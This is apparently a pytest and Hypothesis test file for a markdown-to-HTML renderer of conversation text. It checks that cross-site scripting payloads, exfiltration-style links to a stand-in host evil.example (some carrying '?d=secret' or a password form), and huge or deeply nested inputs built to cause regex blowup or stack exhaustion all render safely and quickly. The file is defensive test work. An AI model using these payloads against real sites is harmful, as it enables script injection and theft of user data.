"""Whatever a model or a person writes, only allowed elements reach the page, and in reasonable time."""

import threading
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.rendering import LiveBlocks, blocks, formula, guard, live, plain, render

from .checks import Checker, faults, words

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[c](javascript:alert(1))",
    "[c](JaVaScRiPt&colon;alert(1))",
    "[c](&#106;avascript:alert(1))",
    "[c](java\\\nscript:alert(1))",
    "[c](<java\tscript:alert(1)>)",
    "[c](\x01javascript:alert(1))",
    "[c]( javascript:alert(1) 'x')",
    "[c][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![a](javascript:alert(1))",
    "[a](file:///etc/passwd) [b](//evil.example) [c](\\\\evil.example\\x) [d](/\\evil.example)",
    '![x" onerror="alert(1)](u)',
    "![x' onerror='alert(1)](https://x.org)",
    '[a](https://x.org "t\\" onmouseover=\\"alert(1)")',
    "[a](https://x.org/&quot;onmouseover=alert(1)//)",
    '``` "><img src=x onerror=alert(1)>\nx\n```',
    '~~~py" onclick="alert(1)\nx\n~~~',
    "```<script>alert(1)</script>\nx\n```",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=//evil.example>",
    "![x][r]\n\n[r]: https://evil.example/?d=secret",
    "[![x](https://evil.example/?d=secret)](https://evil.example)",
    "<img srcset='https://evil.example 1x'>",
    "<video poster=https://evil.example><source src=x></video>",
    "<link rel=prefetch href=https://evil.example>",
    "<style>@import 'https://evil.example';*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<a href=javascript:alert(1) id=x name=y>c</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```svg\n<svg onload=alert(1)></svg>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\n```",
    "```math\n\\text{<img src=x onerror=alert(1)>}\n```",
    "$\\text{<img src=x onerror=alert(1)>}$ $$\\href{javascript:alert(1)}{x}$$",
    "$\\unicode{x3c}\\style{background:url(x)}{y}\\class{z}{w}$",
    "$x\\label{a}\\tag{<b>}$ \\(\\mathrm{</math><img src=x onerror=alert(1)>}\\)",
    "$$\\begin{array}{c|c}a&b\\\\\\hline c&d\\end{array}$$",
    "| a<img src=x onerror=alert(1)> |\n|---|\n| [c](javascript:alert(1)) |",
    "- [x] <img src=x onerror=alert(1)> [c](javascript:alert(1))\n- [ ] </label><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[[c|javascript:alert(1)]] ||x|| :x: ^x^",
    '<https://x.org/"onmouseover=alert(1)> <a@b.c?subject="x>',
    "https://x.org/<script>alert(1)</script> www.x.org/'onclick='x",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<\x00script>alert(1)</script> \ufdd1<script> \ud800<b> \x1b[31m",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "`<img src=x onerror=alert(1)>` ``` ` <script> ```",
    "*<b onclick=alert(1)>* **</p><script>** ~~<img src=x>~~",
    "> - 1. <img src=x onerror=alert(1)>\n> - ```\n> <script>",
]

HUGE = {
    "quotes": ">" * 10_000,
    "quotes with spaces": "> " * 10_000,
    "underscores on both sides": "_" * 10_000 + "a" + "_" * 10_000,
    "stars on both sides": "*" * 10_000 + "a" + "*" * 10_000,
    "nested list": "".join("  " * level + "- a\n" for level in range(1_000)),
    "list in a list on one line": "- " * 10_000,
    "numbers in numbers": "1. " * 10_000,
    "quotes in lists": "> - " * 10_000,
    "open strong": "**a " * 10_000 + "b** " * 10_000,
    "open brackets": "[" * 50_000,
    "open links": "[a](" * 20_000,
    "open images": "![" * 20_000,
    "ticks": "".join("`" * run + "a" for run in range(1, 300)),
    "dollars": "$a" * 20_000,
    "open formulas": r"\(" * 30_000,
    "mismatched formulas": r"\(a\]" * 15_000,
    "angles": "<" * 50_000,
    "open comments": "<!--" * 20_000,
    "entities": "&" * 50_000,
    "pipes": "|" * 50_000,
    "cells": "|a|b|\n|-|-|\n" + "|x|y|\n" * 15_000,
    "wide rows": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "a\n" * 30_000,
    "short rows": "|" + "a|" * 40 + "\n|" + "-|" * 40 + "\n" + "a\n" * 30_000,
    "delimiter rows": "|-|-|\n" * 15_000,
    "one word": "a" * 1_000_000,
    "combining marks": "a" + "\u0301" * 10_000,
    "joined emoji": "\U0001f468\u200d" * 10_000,
    "blank lines": "\n" * 100_000,
    "spaces": " " * 100_000,
    "tabs": "\t" * 100_000,
    "headings": "# a\n" * 20_000,
    "fences": "```py\nx\n```\n" * 8_000,
    "growing fences": "".join("`" * run + "\n" for run in range(3, 400)),
    "definitions": "".join(f"[{number}]: u\n" for number in range(10_000)),
    "brackets before a colon": "a]" * 40_000 + ":",
    "tasks": "- [ ] a\n" * 10_000,
    "linked images": "[![a](u)](http://b) " * 5_000,
    "code": "```python\n" + "x = '\n" * 15_000,
    "long line of code": "```python\n" + "(" * 100_000,
    "title": '[a](u "' + '"' * 100_000,
    "addresses": "http://a" + "(" * 50_000,
    "mail": "a." * 40_000 + "@",
    "lazy lines": "> a\n" + "a\n" * 40_000,
}


def held_against(found: list[str]) -> list[str]:
    return [fault for block in found for fault in faults(block)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_allowed_html_comes_out(payload: str):
    assert held_against(blocks(payload)) == []
    assert held_against(blocks(f"> - {payload}")) == []
    assert held_against(blocks(f"text {payload} **text**\n\n{payload}\n{payload}")) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_allowed_html_comes_out_when_the_stream_is_cut_anywhere(payload: str):
    answer = LiveBlocks()
    for end in range(len(payload) + 1):
        answer.update(payload[:end])
        assert held_against(answer.blocks) == [], payload[:end]
        stopped = LiveBlocks()
        stopped.update(payload[:end], done=True)
        assert held_against(stopped.blocks) == [], payload[:end]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_allowed_html_comes_out_when_bytes_are_cut_anywhere(payload: str):
    sent = payload.encode("utf-8", "surrogatepass")
    for end in range(len(sent) + 1):
        assert held_against(blocks(sent[:end].decode("utf-8", "replace"))) == []


def test_the_checker_itself_sees_what_must_not_pass():
    for html in [
        "<script>alert(1)</script>",
        "<p><img src='x'></p>",
        "<p onclick='x'>a</p>",
        "<p><a href='javascript:x' rel='noopener noreferrer nofollow'>a</a></p>",
        "<p><a href='https://x.org' target='_blank'>a</a></p>",
        "<p class='app'>a</p>",
        "<p id='a'>a</p>",
        "<p style='x'>a</p>",
        "<p>a</p><p>b</p>",
        "<p>a",
        "a",
        "<p>a</p>b",
        "<p><!-- a --></p>",
        "<p><input type='text'></p>",
        "<math><annotation-xml></annotation-xml></math>",
    ]:
        assert faults(html), html


def test_no_address_of_another_host_is_fetched_by_itself():
    for payload in PAYLOADS:
        checker = Checker()
        checker.feed(render(payload))
        assert not {"src", "srcset", "poster", "background", "style"} & set(" ".join(checker.faults).split())


@given(text=st.text(st.characters(), max_size=300))
@settings(deadline=None)
def test_any_text_renders_to_allowed_html(text: str):
    assert held_against(blocks(text)) == []
    assert "\n" not in plain(text)


@given(text=st.text(st.sampled_from("<>&\"'`*_~[]()!#|-+=:$\\{}^/ \n\tabhtp1.@\x00\ud83d\ufdd1"), max_size=200))
@settings(deadline=None)
def test_any_heap_of_marks_renders_to_allowed_html(text: str):
    assert held_against(blocks(text)) == []
    answer = LiveBlocks()
    for end in range(0, len(text), 7):
        answer.update(text[:end])
        assert held_against(answer.blocks) == []


@given(parts=st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "- ", "> ", "`", "```\n", "$", "*", "|"]), max_size=6))
@settings(deadline=None)
def test_any_mix_of_attacks_renders_to_allowed_html(parts: list[str]):
    assert held_against(blocks("".join(parts))) == []


def test_nothing_of_a_broken_text_is_lost():
    assert words(render("a\ud800b\x00c\x07d")) == "a\ufffdb\ufffdc\ufffdd"
    assert words(render("# a\x0bb")) == "a\ufffdb"


@pytest.mark.parametrize("name", HUGE)
def test_huge_and_nested_text_is_rendered(name: str):
    text = HUGE[name]
    found = blocks(text)
    assert held_against(found) == []
    answer = LiveBlocks()
    answer.update(text[: len(text) // 2])
    answer.update(text)
    assert held_against(answer.blocks) == []


@pytest.mark.parametrize("name", HUGE)
def test_html_of_huge_text_stays_in_proportion(name: str):
    text = HUGE[name][: guard.MESSAGE_CHARS]
    assert len(render(text)) <= 40 * len(text) + 1_000


@pytest.mark.parametrize("name", HUGE)
def test_nesting_stays_shallow(name: str):
    deepest = 0

    class Depth(Checker):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            nonlocal deepest
            super().handle_starttag(tag, attrs)
            deepest = max(deepest, len(self.open))

    reader = Depth()
    reader.feed(render(HUGE[name]))
    assert deepest <= 120


def test_code_keeps_its_deep_indentation_and_its_signs():
    code = f"{' ' * 100}- a\n{'>' * 40}\n{'- ' * 30}x\n<div>\n|{'-|' * 80}\n\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t- b\n"
    html = render(f"```text\n{code}```")
    assert words(html.partition("<code>")[2].partition("</code>")[0]) == code


def test_a_rule_of_many_signs_is_still_a_rule():
    assert render("- " * 20) == render("* " * 40) == "<hr>"


def seconds(work, text: str) -> float:
    best = float("inf")
    for _ in range(3):
        start = process_time()
        work(text)
        best = min(best, process_time() - start)
    return best


REGULAR_EXPRESSIONS = {
    "tidy": guard.tidy,
    "guard": guard.guard,
    "latex": guard.latex_is_cheap,
    "definition": live.DEFINITION.search,
    "boundary": lambda text: list(live.BOUNDARY.finditer(text)),
    "fence": lambda text: live.ends_in_open_code(text, "<pre><code></code></pre>"),
    "ends in code": live.ENDS_IN_CODE.search,
    "formula": formula.COMMAND_RUN.search,
}
ADVERSARIAL = [
    *("a", " ", "\t", "\n", ">", "> ", "- ", "-", "* ", "1", "1. ", "1.", "<", "[", "]", "]:", "\n]", "\\", "`", "~~~"),
    *("\n- ", "\n> ", "\n```", "\n``` ```", "|-", "|-|\n", "\n|-", "\\[", "\\a", "\\(\n", "</code></pre>", "</li>"),
    *("</code></pre></li>", "\r", "\x00", "\n \t", "[\\", "\n[a", "- \n", "\n\n#", "_ ", "\n_ _", " >", "1 "),
]


@pytest.mark.parametrize("name", REGULAR_EXPRESSIONS)
def test_our_own_expressions_take_linear_time(name: str):
    work = REGULAR_EXPRESSIONS[name]
    for unit in ADVERSARIAL:
        # Thirty-two times the text may take two hundred times the time; something quadratic takes a thousand times.
        text = unit * (3_200 // len(unit))
        short, long = seconds(work, text), seconds(work, text * 32)
        assert long < 200 * max(short, 0.0002), (unit, short, long)


DEEP_FORMULAS = [
    "{" * 700 + "}" * 700,
    r"\sqrt" * 290 + " x",
    r"\frac" * 290,
    r"\bar" * 370,
    r"\not" * 370,
    "x" + "_{x" * 290 + "}" * 290,
    "x" + "^x" * 700,
    r"\left(" * 120 + r"\right)" * 120,
    r"\begin{matrix}" * 50 + r"\end{matrix}" * 50,
    r"\text{" * 200 + "}" * 200,
    r"\def\a{\sqrt\a}\a",
    r"\def\a{\a\a}\a",
    r"\newcommand{\a}{\sqrt{\a}}\a",
    "x'" * 700,
    r"\sqrt " * 240 + "x",
    r"\sqrt{}\sqrt{x" * 90,
    (r"\sqrt" * 29 + "{") * 9 + "x" + "}" * 9,
    r"{\}" * 480,
    r"{\right" * 200,
    r"\begin{matrix}{" * 29 + r"}\end{matrix}" * 29,
]


@pytest.mark.parametrize("tex", DEEP_FORMULAS)
def test_a_formula_cannot_exhaust_the_stack(tex: str):
    # A small stack makes what would end the process at some depth end it here.
    rendered: list[str] = []
    size = threading.stack_size(512 * 1024)
    try:
        thread = threading.Thread(target=lambda: rendered.append(render(f"$${tex}$$")))
        thread.start()
    finally:
        threading.stack_size(size)
    thread.join()
    assert held_against(rendered) == []
    assert len(rendered) == 1


@pytest.mark.parametrize("language", ["c", "c#", "java", "python", "javascript", "bash"])
@pytest.mark.parametrize("unit", ["a\n", "\n\n", "(/", "'", '"', "/*", "\\\n", "{"])
def test_code_that_is_slow_to_colour_is_shown_in_time(language: str, unit: str):
    code = unit * (11_000 // len(unit))
    start = process_time()
    html = render(f"~~~{language}\n{code}\n~~~")
    assert process_time() - start < 2
    assert words(html.partition("<code>")[2].partition("</code>")[0]) == f"{code}\n"
